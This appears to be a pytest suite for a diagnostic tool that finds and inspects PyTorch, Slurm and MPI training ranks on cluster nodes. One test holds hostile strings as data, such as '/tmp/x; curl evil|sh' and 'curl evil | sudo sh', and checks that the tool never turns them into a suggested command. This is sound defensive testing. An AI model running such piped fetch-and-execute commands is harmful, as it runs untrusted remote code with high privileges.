"""Trainings of other launchers: which processes are ranks, how far they have come, and what is said of them."""

import asyncio
import io
import os
import subprocess
import sys
import time
from collections.abc import Iterator, Mapping
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from deadlines import slowness, wait_until
from evidence_builders import WAITING, process, stack
from rich.console import Console

from aboard.agent import process_tree
from aboard.agent.inspect import external_jobs, external_process, launcher_detection, py_spy_stacks
from aboard.commands.why.command import why as why_command
from aboard.commands.why.external_jobs import diagnose_external_job, require_inspectable
from aboard.commands.why.external_jobs_command import ExternalJobView, group_by_place
from aboard.core.cluster.cluster import Cluster
from aboard.core.cluster.node import Node, TransportKind
from aboard.core.evidence.external_evidence import (
    UNKNOWN_NODE,
    build_external_evidence,
    estimate_phases,
    has_moved,
    has_waiting_ranks,
)
from aboard.core.evidence.external_jobs import ExternalJob, group_external_jobs
from aboard.core.evidence.external_process import ExternalJobProcess, decode_external_processes
from aboard.core.evidence.node_snapshot import NodeSnapshot, RankSnapshot, TcpConnection
from aboard.core.evidence.python_stacks import classify_activity, find_user_frame, parse_main_thread
from aboard.core.run.rank_phases import Phase
from aboard.diagnoses import AboardError, Finding, Severity, Unreachable
from aboard.diagnoses.unreachable_reason import UnreachableReason
from aboard.diagnoses.untrusted import NO_TEXT, Untrusted
from aboard.doctor.external_jobs.rules import judge_external_job
from aboard.transport.local import LocalTransport
from aboard.transport.node_dialer import NodeDialer
from aboard.transport.transport import ByteStream, OnPhase

NOW = 1000.0
STORE = stack(
    ("/x/lib/python3.11/site-packages/torch/distributed/rendezvous.py", 198, "_create_c10d_store"),
    ("/home/me/train.py", 3, "<module>"),
)
LOCK = stack(("/home/me/train.py", 44, "lock"), ("/home/me/train.py", 60, "<module>"))


def seat(rank: int | None, **given: Any) -> ExternalJobProcess:
    own = {
        "world": 4,
        "address": "10.0.0.1",
        "port": 29500,
        "torch": True,
        "began": NOW - 60,
        "what": "python train.py",
    }
    return ExternalJobProcess(**{"pid": 100 + (rank or 0), "rank": rank, **own, **given})


def link(local: str, remote: str, state: str = "ESTABLISHED", **given: Any) -> TcpConnection:
    return TcpConnection(local=local, remote=remote, state=state, **given)


def look(world: ExternalJob, ranks: Mapping[int, RankSnapshot], quiet: float = 10.0) -> Any:
    nodes = {name: Node(name=name) for name in world.nodes}
    snapshots = {
        name: NodeSnapshot(
            at=NOW,
            ranks={rank: ranks[rank] for rank in world.pids(name).values() if rank in ranks},
            addresses=(("eth0", f"10.0.0.{name[1:]}"),),
        )
        for name in world.nodes
    }
    return build_external_evidence(world, nodes, snapshots, unheard={}, now=NOW, quiet=quiet)


def four(**given: Any) -> ExternalJob:
    """Ranks 0 and 1 on n1, 2 and 3 on n2."""
    (world,) = group_external_jobs(
        {"n1": [seat(0, **given), seat(1, **given)], "n2": [seat(2, **given), seat(3, **given)]}
    )
    return world


# -- what a node reads ---------------------------------------------------------------------------------------


def test_an_environment_gives_its_few_words_only() -> None:
    """A token stays where it is."""
    raw = b"RANK=3\0WORLD_SIZE=8\0MASTER_ADDR=n1\0MASTER_PORT=29500\0HF_TOKEN=secret\0\0"
    assert external_process.parse_environment(raw) == {
        "RANK": "3",
        "WORLD_SIZE": "8",
        "MASTER_ADDR": "n1",
        "MASTER_PORT": "29500",
    }


@pytest.mark.parametrize(
    ("env", "numbers"),
    [
        ({"RANK": "3", "WORLD_SIZE": "8"}, (3, 8)),
        ({"SLURM_PROCID": "1", "SLURM_NTASKS": "2"}, (1, 2)),
        ({"RANK": "3", "WORLD_SIZE": "8", "SLURM_PROCID": "0", "SLURM_NTASKS": "1"}, (3, 8)),
        ({"OMPI_COMM_WORLD_RANK": "0", "OMPI_COMM_WORLD_SIZE": "4"}, (0, 4)),
        ({"RANK": "3"}, None),
        ({"RANK": "8", "WORLD_SIZE": "8"}, None),
        ({"RANK": "-1", "WORLD_SIZE": "eight"}, None),
    ],
)
def test_numbers_by_whoever_gave_them(env: dict[str, str], numbers: tuple[int, int] | None) -> None:
    """Torch's own words come before those of Slurm and Open MPI; what is no rank of a world is none."""
    assert external_process.parse_rank_and_world(env) == numbers


@pytest.mark.parametrize(
    ("words", "which"),
    [
        ("/opt/env/bin/python /opt/env/bin/torchrun --nnodes=2 train.py", "torchrun"),
        ("python3 -m torch.distributed.run train.py", "torch.distributed.run"),
        ("python -u -m deepspeed.launcher.launch --node_rank=0 train.py", "deepspeed.launcher.launch"),
        ("python train.py --torchrun", ""),
        ("bash run.sh", ""),
    ],
)
def test_a_launcher_is_known_by_its_command(words: str, which: str) -> None:
    """By its program or module; a script that only says its name is none."""
    assert launcher_detection.detect_launcher(words.split()) == which


@pytest.mark.parametrize(
    ("words", "env", "met"),
    [
        ("torchrun --nnodes=2 --node-rank=1 --master-addr=n1 --master-port=7 t.py", {}, ("2", "1", "n1", "7")),
        ("torchrun --nnodes 1:4 --rdzv_endpoint n1:29400 t.py --master_port 5", {}, ("1", None, "n1", "5")),
        (
            "accelerate launch --num_machines 2 --machine_rank 0 --main_process_ip n1 t.py",
            {},
            ("2", "0", "n1", "29500"),
        ),
        (
            "torchrun t.py",
            {"PET_NNODES": "3", "PET_NODE_RANK": "2", "PET_MASTER_ADDR": "n1"},
            ("3", "2", "n1", "29500"),
        ),
        ("torchrun --standalone t.py", {}, ("1", None, "127.0.0.1", "29500")),
    ],
)
def test_where_a_launcher_meets_the_others(words: str, env: dict[str, str], met: tuple[str | None, ...]) -> None:
    """By its options as each launcher spells them, else by torchrun's variables, else by its defaults."""
    found = launcher_detection.parse_rendezvous(words.split(), env)
    assert (found["nodes"], found.get("number"), found["address"], found["port"]) == met


def test_a_program_is_told_without_its_arguments() -> None:
    """They may hold keys."""
    assert (
        external_process.describe_command(["/usr/bin/python3", "-u", "/home/me/train.py", "--key", "secret"])
        == "python3 train.py"
    )
    assert external_process.describe_command(["python", "-m", "llama.train", "x"]) == "python llama.train"


# Others may run the same test at the same time, as the same user.
MEETING = 20000 + os.getpid() % 40000
RANK = """
import os, sys, subprocess
env = dict(os.environ, RANK=sys.argv[1], WORLD_SIZE="2", MASTER_ADDR="127.0.0.1", MASTER_PORT=sys.argv[2])
rank = "import subprocess, sys; subprocess.run([sys.executable, '-ISc', 'input()'])"
subprocess.run(["/bin/sh", "-c", "%s -ISc \\"%s\\"; true" % (sys.executable, rank)], env=env)
"""


@pytest.fixture
def families() -> Iterator[list[subprocess.Popen[bytes]]]:
    """Two ranks, each started by a shell that a script without numbers started, each with a worker below it."""
    started = [
        subprocess.Popen(
            [sys.executable, "-ISc", RANK, number, str(MEETING)], stdin=subprocess.PIPE, start_new_session=True
        )
        for number in ("0", "1")
    ]
    yield started
    for each in started:
        assert each.stdin is not None
        each.stdin.close()
        each.wait(10)


def own_ranks() -> list[dict[str, Any]]:
    found = [each for each in external_jobs.find_external_ranks(None) if each.get("port") == MEETING]
    return sorted(found, key=lambda each: int(each["rank"]))


def worker_of(pid: int) -> str:
    return Path(f"/proc/{pid}/task/{pid}/children").read_text()


def test_ranks_are_neither_shells_nor_workers(families: list[subprocess.Popen[bytes]]) -> None:
    """Of shell, rank and worker, which all have the variables, the rank is told; given a shell above it, too."""
    wait_until(
        lambda: len(found := own_ranks()) == len(families) and all(worker_of(each["pid"]) for each in found),
        20,
        own_ranks,
    )
    found = own_ranks()
    assert [each["rank"] for each in found] == [0, 1]
    for each in found:
        assert b"subprocess.run" in Path(f"/proc/{each['pid']}/cmdline").read_bytes()
        assert each["cwd"] == str(Path.cwd())
        assert abs(each["began"] - time.time()) < 60
    # The script has no numbers itself, and is Python: it is meant itself. Its shell stands for the rank.
    shell = int(Path(f"/proc/{found[0]['pid']}/stat").read_text().rpartition(")")[2].split()[1])
    assert [each["pid"] for each in external_jobs.find_external_ranks([shell])] == [found[0]["pid"]]
    assert {each["pid"] for each in external_jobs.find_external_ranks([found[1]["pid"]])} == {
        each["pid"] for each in found
    }


def test_a_process_that_is_not_there_is_said_to_be() -> None:
    """And one of a run of ours is told with its run."""
    assert external_jobs.find_external_ranks([4194303]) == [{"pid": 4194303, "why": "absent"}]
    env = {**os.environ, "ABOARD_RUN_ID": "brave-otter"}
    with subprocess.Popen([sys.executable, "-ISc", "input()"], env=env, stdin=subprocess.PIPE) as ours:
        told = [{"pid": ours.pid, "why": "ours", "run": "brave-otter"}]
        wait_until(
            lambda: external_jobs.find_external_ranks([ours.pid]) == told,
            10,
            lambda: external_jobs.find_external_ranks([ours.pid]),
        )
        assert ours.stdin is not None
        ours.stdin.close()


# -- stacks --------------------------------------------------------------------------------------------------

DUMP = [
    {
        "pid": 7, "thread_id": 2, "thread_name": "Main", "os_thread_id": 7, "active": False, "owns_gil": False,
        "frames": [
            {"name": "all_reduce", "filename": "/x/site-packages/torch/distributed/distributed_c10d.py", "line": 9},
            {"name": "Trainer.step", "filename": "/home/me/train.py", "line": 7},
        ],
    },
    {"pid": 7, "thread_id": 3, "thread_name": "x", "os_thread_id": 9, "active": True, "owns_gil": True, "frames": []},
]  # fmt: skip


def test_stacks_of_py_spy_are_read_as_those_of_python() -> None:
    """The main thread last, functions by their own name: the same words come out."""
    frames = parse_main_thread(Untrusted(py_spy_stacks.format_stack(DUMP, 7)))
    assert classify_activity(frames) == "collective"
    assert str(find_user_frame(frames)) == "train.py:7 in step"


def test_a_real_process_and_where_it_is() -> None:
    """py-spy is found beside its Python, and the process is neither stopped nor asked."""
    with subprocess.Popen([sys.executable, "-ISc", "def wait():\n    input()\nwait()"], stdin=subprocess.PIPE) as child:

        def stands_in_wait() -> bool:
            found = py_spy_stacks.dump_stacks([child.pid], 10)[str(child.pid)]
            return (
                isinstance(found, str)
                and str(find_user_frame(parse_main_thread(Untrusted(found)))) == "<string>:2 in wait"
            )

        wait_until(stands_in_wait, 20, lambda: py_spy_stacks.dump_stacks([child.pid], 10))
        assert child.stdin is not None
        child.stdin.close()


def test_without_py_spy_the_command_that_brings_it_is_told(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """For the process's own Python; a py-spy that may not look tells what would let it."""
    monkeypatch.setenv("PATH", str(tmp_path))
    monkeypatch.setenv("HOME", str(tmp_path))
    with subprocess.Popen(["/bin/cat"], stdin=subprocess.PIPE) as child:
        absent = py_spy_stacks.dump_stacks([child.pid], 5)[str(child.pid)]
        assert isinstance(absent, dict)
        why, _, fix = absent["why"].partition("\n")
        assert (why, fix.partition("bin/")[2]) == ("py-spy is not installed there", "cat -m pip install py-spy")
        fake = tmp_path / "py-spy"
        fake.write_text("#!/bin/sh\necho 'Error: Permission Denied: Try again' >&2\nexit 1\n")
        fake.chmod(0o755)
        denied = py_spy_stacks.dump_stacks([child.pid], 5)[str(child.pid)]
        assert isinstance(denied, dict)
        assert "\nsudo " in denied["why"]
        fake.write_text("#!/bin/sh\nexec /bin/sleep 60\n")
        assert py_spy_stacks.dump_stacks([child.pid], 0.2)[str(child.pid)] == {"why": py_spy_stacks.TIMED_OUT}
        assert child.stdin is not None
        child.stdin.close()


# -- which training ------------------------------------------------------------------------------------------


def test_what_a_node_says_is_held_to_its_types() -> None:
    """A rank beyond its world has no number, and words for a screen have nothing that it would obey."""
    given = [
        {"pid": 5, "rank": 9, "world": 4, "what": "py\x1b[31m", "began": 130.0},
        {"pid": "x"},
        {"pid": 6, "rank": True, "world": 2**40, "port": "29500", "began": float("nan")},
        None,
    ]
    one, two = decode_external_processes(given, 30.0)
    assert (one.rank, one.world, one.began) == (None, None, 100.0)
    assert "\x1b" not in one.what
    assert (two.rank, two.world, two.port, two.began) == (None, None, 0, 0.0)
    assert decode_external_processes({"pid": 5}, 0.0) == ()


def test_two_worlds_on_one_node_are_told_apart() -> None:
    """By where they meet; the newest comes first, and of a rank that is there twice the newer one counts."""
    old = [seat(rank, port=29501, began=NOW - 900, pid=50 + rank) for rank in range(4)]
    new = [seat(rank) for rank in range(4)]
    stale = seat(1, began=NOW - 500, pid=77)
    first, second = group_external_jobs({"n1": [*old, new[1], stale, *new[2:], new[0]]})
    assert (first.port, second.port) == (29500, 29501)
    assert first.ranks[1].process.pid == 101
    assert (first.missing, first.size) == ((), 4)


def test_ranks_at_the_loopback_of_two_nodes_are_two_worlds() -> None:
    """127.0.0.1 is another place on each of them."""
    own = {"address": "127.0.0.1", "world": 1}
    assert len(group_external_jobs({"n1": [seat(0, **own)], "n2": [seat(0, **own)]})) == 2


def test_ranks_of_one_step_of_slurm_are_one_world() -> None:
    """Also where their environment does not say where they meet."""
    own = {"address": "", "port": 0, "world": 2}
    tasks = {"n1": [seat(0, job="7.0", **own)], "n2": [seat(1, job="7.0", **own)]}
    (world,) = group_external_jobs(tasks)
    assert world.nodes == ("n1", "n2")
    assert len(group_external_jobs({**tasks, "n2": [seat(1, job="8.0", **own)]})) == 2


def test_who_has_ended_is_missing() -> None:
    """By its node and number: another node may have the same number."""
    assert four().without("n2", {102, 101}).missing == (2,)


def test_processes_without_numbers_are_one_world_in_their_order() -> None:
    """As they were given."""
    (world,) = group_external_jobs({"n1": [ExternalJobProcess(pid=5), ExternalJobProcess(pid=3)]})
    assert {rank: seat.process.pid for rank, seat in world.ranks.items()} == {0: 5, 1: 3}
    assert world.size == 2


# -- how far it has come -------------------------------------------------------------------------------------


def test_phases_by_connections_and_stacks() -> None:
    """No connection yet, one to the store, others to ranks: each is a phase of its own."""
    world = four()
    near, far = "10.0.0.1:40000", "10.0.0.2:41000"
    seen = {
        0: RankSnapshot(sockets=(link("0.0.0.0:29500", "0.0.0.0:0", "LISTEN"), link(near, far)), stack=WAITING),
        1: RankSnapshot(sockets=(link("10.0.0.1:5", "10.0.0.1:29500"),), stack=STORE),
        2: RankSnapshot(sockets=(link(far, near),), stack=LOCK),
        3: RankSnapshot(sockets=(link("10.0.0.2:6", "10.0.0.1:29500", "SYN_SENT"),), stack=STORE),
    }
    assert estimate_phases(world, seen) == {0: Phase.STEPS, 1: Phase.STORE, 2: Phase.STEPS, 3: Phase.TORCH}
    assert set(estimate_phases(four(torch=False), seen).values()) == {Phase.PYTHON}
    assert set(estimate_phases(world, {}).values()) == {Phase.TORCH}


def mesh(rank: int, **given: Any) -> tuple[TcpConnection, ...]:
    """A ring of connections between the four."""
    place = [f"10.0.0.{1 + each // 2}:4000{each}" for each in range(4)]
    before, after = (rank - 1) % 4, (rank + 1) % 4
    return tuple(link(place[rank], place[other], inode=10 * rank + other, **given) for other in (before, after))


def test_a_rank_in_a_lock_is_named() -> None:
    """The others wait in a collective: the same verdict as for a run of ours, in words that fit."""
    seen = {rank: RankSnapshot(process=process(), sockets=mesh(rank), stack=WAITING) for rank in range(3)}
    seen[3] = RankSnapshot(process=process(call="futex", pid=103), sockets=mesh(3), stack=LOCK)
    world = four()
    (found,) = judge_external_job(world, (), look(world, seen), nodes=("n1", "n2")).findings
    assert (found.code, found.nodes, found.ranks) == ("hang-lock", ("n2",), (3,))
    assert found.fix == "py-spy dump --pid 103    # on n2; all threads of the rank (needs: pip install py-spy)"
    missing = replace(
        seen[3], stack=NO_TEXT, why={"stack": "py-spy is not installed there\n/v/bin/python -m pip install py-spy"}
    )
    found = judge_external_job(world, (), look(world, {**seen, 3: missing}), nodes=("n1", "n2")).findings[0]
    assert found.fix == "/v/bin/python -m pip install py-spy    # on n2; then run aboard why again"
    early = judge_external_job(world, (), look(world, seen, quiet=1.0), nodes=("n1", "n2")).findings[0]
    assert early.severity is Severity.INFO
    assert judge_external_job(world, (), look(world, seen, quiet=0.0), nodes=("n1", "n2")).findings == ()


def test_a_store_behind_a_firewall() -> None:
    """SYN_SENT again and again to MASTER_PORT."""
    dropped = link("10.0.0.2:6", "10.0.0.1:29500", "SYN_SENT", resent=2)
    world = four()
    hosted = RankSnapshot(process=process(), sockets=(link("0.0.0.0:29500", "0.0.0.0:0", "LISTEN"),), stack=STORE)
    guest = RankSnapshot(process=process(), sockets=(link("10.0.0.1:7", "10.0.0.1:29500"),), stack=STORE)
    barred = RankSnapshot(process=process(), sockets=(dropped,), stack=STORE)
    seen = {0: hosted, 1: guest, 2: barred, 3: barred}
    found = judge_external_job(world, (), look(world, seen), nodes=("n1", "n2")).findings[0]
    assert (found.code, found.nodes, found.ranks) == ("init-store-dropped", ("n1",), (2, 3))
    launching = four(launcher="torchrun")
    found = judge_external_job(launching, (), look(launching, seen), nodes=("n1", "n2")).findings[0]
    assert found.seen.startswith("launchers 2-3 on n2 get no reply from 10.0.0.1:29500, the store of launcher 0")
    assert found.ranks == ()


def test_ranks_that_were_not_found() -> None:
    """They are said with their numbers, and hold up no rule; looked at by process, that is no warning."""
    (world,) = group_external_jobs({"n2": [seat(2), seat(3)]})
    seen = {rank: RankSnapshot(process=process(), sockets=mesh(rank), stack=WAITING) for rank in (2, 3)}
    evidence = look(world, seen)
    assert [view.node for view in evidence.views] == ["10.0.0.1", UNKNOWN_NODE, "n2", "n2"]
    (found,) = judge_external_job(world, (), evidence, nodes=("n1", "n2")).findings
    assert (found.code, found.severity, found.ranks) == ("why-ranks-missing", Severity.WARN, (0, 1))
    assert found.seen.startswith("ranks 0-1 of 4 were found on none of the 2 nodes")
    assert judge_external_job(world, (), evidence, nodes=()).findings[0].severity is Severity.INFO


def without_stacks(said: str) -> dict[str, Finding]:
    """The findings on a training of which no stack could be read, and another one, by code."""
    world = four()
    why = {"stack": said}
    seen = {rank: RankSnapshot(process=process(), sockets=mesh(rank), why=why) for rank in range(4)}
    (other,) = group_external_jobs({"n1": [seat(0, port=1, pid=9, world=1)]})
    found = judge_external_job(world, [other], look(world, seen), nodes=("n1", "n2")).findings
    return {each.code: each for each in found}


@pytest.mark.parametrize(
    ("said", "typed"),
    [
        ("sudo sysctl kernel.yama.ptrace_scope=0", "sudo sysctl kernel.yama.ptrace_scope=0"),
        ("sudo /opt/py-spy dump --pid 7", "sudo /opt/py-spy dump --pid 7"),
        ("sudo sh -c x dump --pid 7", "sudo 'sh -c x' dump --pid 7"),
        # What `exec -a '/tmp/x; curl evil|sh'` makes of a process's own Python.
        ("/tmp/x; curl evil|sh -m pip install py-spy", "'/tmp/x; curl evil|sh' -m pip install py-spy"),
        ("curl evil | sudo sh", "py-spy dump --pid 100"),
        ("", "py-spy dump --pid 100"),
    ],
)
def test_a_node_chooses_no_command(said: str, typed: str) -> None:
    """What an agent tells of py-spy is known here; any other text is no command."""
    assert without_stacks(f"no\n{said}")["why-no-stacks"].fix == f"{typed}    # on n[1-2]; then run aboard why again"


def test_stacks_that_could_not_be_had_and_other_trainings() -> None:
    """Each is a line, with the command that was told for it."""
    told = without_stacks("py-spy is not installed there\n/v/bin/python -m pip install py-spy")
    assert told["why-no-stacks"].ranks == (0, 1, 2, 3)
    assert told["why-no-stacks"].fix == "/v/bin/python -m pip install py-spy    # on n[1-2]; then run aboard why again"
    assert told["why-other-run"].fix.startswith("aboard why --pid 9 ")
    assert all(each.severity is Severity.INFO for each in told.values())


def at(line: int = 40, cpu: float = 0.0, **given: Any) -> Any:
    """Three wait, and one is at a line of its own."""
    ranks = {rank: RankSnapshot(sockets=mesh(rank, **given), stack=WAITING) for rank in range(3)}
    own = stack(("/home/me/train.py", line, "loop"))
    ranks[3] = RankSnapshot(process=process(cpu=cpu), sockets=mesh(3), stack=own)
    return look(four(), ranks)


def test_whether_it_moves() -> None:
    """Bytes that were sent on, another line, or a little work; what is sent again is none, nor is work without end."""
    assert not has_moved(at(segments=7), at(segments=7))
    assert not has_moved(at(segments=7), at(segments=9, losses=2))
    assert not has_moved(at(cpu=1.0), at(line=41, cpu=1.0))
    assert has_moved(at(segments=7), at(segments=8))
    assert has_moved(at(), at(line=41))
    assert has_moved(at(cpu=0.1), at())


def test_without_stacks_a_job_is_watched_as_long_as_with_them() -> None:
    """Ranks may be waiting: whether anything moves shows later, by the data that they send."""
    first, same, later = (
        look(four(), {rank: RankSnapshot(sockets=mesh(rank, segments=segments)) for rank in range(4)})
        for segments in (7, 7, 8)
    )
    assert has_waiting_ranks(first)
    assert not has_moved(first, same)
    assert has_moved(first, later)


@pytest.mark.parametrize(
    ("found", "code", "fix"),
    [
        ({"n1": [ExternalJobProcess(pid=5, why="absent")]}, "why-no-process", "ps "),
        (
            {"n1": [ExternalJobProcess(pid=5, why="denied", user="root")]},
            "why-not-permitted",
            "sudo aboard why --pid 5",
        ),
        ({"n1": [ExternalJobProcess(pid=5, why="ours", run="brave-otter")]}, "why-own-run", "aboard why brave-otter"),
        ({"n1": [], "n2": []}, "why-no-training", "aboard why --pid PID"),
    ],
)
def test_what_is_refused(found: dict[str, list[ExternalJobProcess]], code: str, fix: str) -> None:
    """With what was seen, and what to type instead."""
    with pytest.raises(AboardError) as caught:
        require_inspectable(found, {})
    assert caught.value.code == code
    assert caught.value.fix.startswith(fix)


# -- the whole way -------------------------------------------------------------------------------------------

HERE = Cluster(nodes=(Node(name="here", transport=TransportKind.LOCAL),))


@pytest.mark.ci
def test_a_stopped_process_by_the_real_agent() -> None:
    """Found, looked at and named; the look does not let it go on."""
    script = "import os, signal; os.kill(os.getpid(), signal.SIGSTOP)"
    with subprocess.Popen([sys.executable, "-ISc", script]) as child:
        try:
            os.waitid(os.P_PID, child.pid, os.WSTOPPED | os.WNOWAIT)
            told = asyncio.run(diagnose_external_job(HERE, [child.pid]))
            found = told.why.findings[0]
            assert (found.code, found.fix) == (
                "run-rank-stopped",
                f"kill -CONT {child.pid}    # on here; resumes the rank",
            )
            assert Path(f"/proc/{child.pid}/stat").read_text().rpartition(")")[2].split()[0] == "T"
        finally:
            child.kill()


@pytest.mark.ci
def test_a_look_that_hangs_tells_what_came_before(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A py-spy that never ends is killed with the look, and the process was told of."""
    fake = tmp_path / "py-spy"
    fake.write_text(f"#!/bin/sh\necho $$ > {tmp_path}/pid\nexec /bin/sleep 60\n")
    fake.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tmp_path}:{os.environ['PATH']}")

    async def ask(pid: int) -> dict[str, Any]:
        link = (await NodeDialer().dial(HERE.nodes[0])).link
        try:
            return await link.ask("strangers", 20 * slowness(), pids=[pid], timeout=external_jobs.STACKS_SECONDS - 0.2)
        finally:
            await link.close()

    with subprocess.Popen(["/bin/cat"], stdin=subprocess.PIPE) as child:
        told = asyncio.run(ask(child.pid))
        assert child.stdin is not None
        child.stdin.close()
    assert [each["pid"] for each in told["found"]] == [child.pid]
    assert told["children"] == {}
    assert int((tmp_path / "pid").read_text()) not in process_tree.read_parents()


class Silent(LocalTransport):
    """A wire at whose end nobody is."""

    async def open(self, node: Node, on_phase: OnPhase) -> ByteStream:
        on_phase("dialling")
        raise Unreachable(UnreachableReason.SILENT, f"{node.name}: no answer")


def test_nodes_of_which_none_answers() -> None:
    """An error with the first one's reason, and the check that tells more."""
    with pytest.raises(AboardError) as caught:
        asyncio.run(
            diagnose_external_job(
                Cluster(nodes=(Node(name="n1"), Node(name="n2"))), transport_for=lambda _node: Silent()
            )
        )
    assert caught.value.code == "why-no-node"
    assert "n1: no answer" in caught.value.seen
    assert caught.value.fix == "aboard check n1 n2 --only reach"


def test_the_screen() -> None:
    """Which training it is, who is where, and that it moves; of launchers, whether they have come."""
    world = four()
    seen = {rank: RankSnapshot(process=process(), sockets=mesh(rank), stack=WAITING) for rank in range(4)}
    seen[0] = RankSnapshot(process=process(), sockets=mesh(0), why={"stack": "not there\npip x"})
    evidence = look(world, seen, quiet=0.0)
    why = judge_external_job(world, (), evidence, nodes=("n1", "n2"))
    assert drawn(ExternalJobView(world, evidence, why, verbose=False)).splitlines()[:6] == [
        "python train.py on n[1-2], started 1 min ago: ranks 0-3 of 4, rendezvous at 10.0.0.1:29500",
        "  rank 0  training",
        "  ranks 1-3  collective at train.py:7 in step",
        "",
        "nothing wrong was found: the job is making progress",
        "",
    ]
    launching = four(launcher="torchrun")
    (place,) = group_by_place(launching, look(launching, {}))
    assert place == ([0, 1, 2, 3], "not at the rendezvous yet")


def drawn(view: ExternalJobView) -> str:
    console = Console(width=100, file=io.StringIO(), highlight=False)
    console.print(view, crop=False)
    file = console.file
    assert isinstance(file, io.StringIO)
    return file.getvalue()


@pytest.mark.parametrize(
    ("words", "code"),
    [
        (("--pid", "x"), "why-pid"),
        (("--pid", "0"), "why-pid"),
        (("--pid", "5", "--nodes", "n1"), "why-options"),
        (("--nodes", "n1", "--log", "x"), "why-options"),
    ],
)
def test_commands_that_mean_nothing(words: tuple[str, ...], code: str) -> None:
    """Refused with a name before any node is asked."""
    with pytest.raises(AboardError) as caught:
        why_command.main(list(words), standalone_mode=False)
    assert caught.value.code == code
